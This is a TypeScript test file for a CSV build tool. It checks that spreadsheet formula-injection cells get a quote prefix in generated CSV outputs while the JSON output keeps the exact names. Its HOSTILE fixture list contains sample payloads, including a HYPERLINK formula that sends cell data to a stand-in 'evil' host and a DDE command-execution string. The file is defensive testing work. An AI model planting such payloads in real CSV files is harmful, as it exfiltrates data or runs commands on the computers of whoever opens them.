// Issue 24: formula injection in the build outputs. Native class names starting with `=`, `+`,
// `-`, `@`, tab or CR landed unescaped in lut/*.csv and coverage.csv, which people open in
// spreadsheets. They get the OWASP treatment (a leading `'`); numbers such as `-1` stay numbers,
// and labelmap.json (what code reads) keeps every name exact. The CSV is read back with labelmap's
// own RFC 4180 reader and with python3's csv module.
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsvTable } from '../../src/sheets/csv.js';
import { formulaStart, spreadsheetCell } from '../../src/text/index.js';
import { runInProcess, tempDir } from '../helpers/cli.js';

const HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=tab', '\r=cr'];
const PLAIN = ['-1', '+3.5', 'car', 'a=b'];

function csv(rows: string[][]): string {
  return rows.map((r) => r.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join('\n') + '\n';
}

describe('formula cells in the build outputs', () => {
  it('spreadsheetCell quotes exactly the cells a spreadsheet would run', () => {
    for (const h of HOSTILE) expect(spreadsheetCell(h)).toBe(`'${h}`);
    for (const p of PLAIN) expect(spreadsheetCell(p)).toBe(p);
    expect(formulaStart('=x')).toBe('=');
  });

  // The sheet reader trims cells, so a leading tab or CR never reaches a name (spreadsheetCell covers them above).
  const SHEET_HOSTILE = HOSTILE.slice(0, 4);
  const names = [...SHEET_HOSTILE, ...PLAIN];
  const dir = tempDir({
    'sheets/taxonomy/core@1.0.0.csv': 'id,name,parent,display_name,color,is_thing,description\n1,vehicle,,,,,\n2,car,vehicle,,,,\n3,truck,vehicle,,,,\n',
    'sheets/verticals/product@1.0.0.csv': 'class,include,train_id,color\ncar,car,,\ntruck,truck,,\n',
    'sheets/datasets/ds@1.0.0.csv': csv([['id', 'name', 'display_name', 'category', 'train_id', 'color', 'is_thing', 'evaluate'], ...names.map((n, i) => [String(i), n, '', '', '', '', '', ''])]),
    // the first hostile name is coarse (vehicle -> car|truck): it is named in coverage.csv's `because`
    'sheets/mappings/ds@1.0.0.csv': csv([['source', 'target', 'note'], ...names.map((n, i) => [n, i === 0 ? 'vehicle' : 'car', ''])]),
  });

  it('lut/*.csv and coverage.csv start such cells with a quote; labelmap.json keeps the names exact', async () => {
    const r = await runInProcess(['merge', '--vertical', 'product', '--out', 'build', '--quiet'], { cwd: dir });
    expect(r.code).toBe(0);
    const lutText = readFileSync(path.join(dir, 'build', 'lut', 'ds.csv'), 'utf8');
    const lut = parseCsvTable(lutText, 'lut/ds.csv').table!;
    const column = lut.header.indexOf('name');
    expect(lut.rows.map((row) => row.cells[column])).toEqual([...SHEET_HOSTILE.map((h) => `'${h}`), ...PLAIN]);
    for (const row of lut.rows) for (const cell of row.cells) expect(formulaStart(cell)).toBeNull();
    const coverage = parseCsvTable(readFileSync(path.join(dir, 'build', 'coverage.csv'), 'utf8'), 'coverage.csv').table!;
    const because = coverage.rows.map((row) => row.cells[coverage.header.indexOf('because')]);
    expect(because).toContain(`'${HOSTILE[0]}`);
    const bundle = JSON.parse(readFileSync(path.join(dir, 'build', 'labelmap.json'), 'utf8')) as { datasets: { lut: { name: string }[] }[] };
    expect(bundle.datasets[0]!.lut.map((e) => e.name)).toEqual(names);
  });

  it('python3 csv reads the same cells back', () => {
    const py = spawnSync('python3', ['-I', '-c', 'import csv,sys,json; print(json.dumps([r[1] for r in csv.reader(open(sys.argv[1], newline=""))][1:]))', path.join(dir, 'build', 'lut', 'ds.csv')], { encoding: 'utf8' });
    expect(py.status).toBe(0);
    expect(JSON.parse(py.stdout)).toEqual([...SHEET_HOSTILE.map((h) => `'${h}`), ...PLAIN]);
  });
});
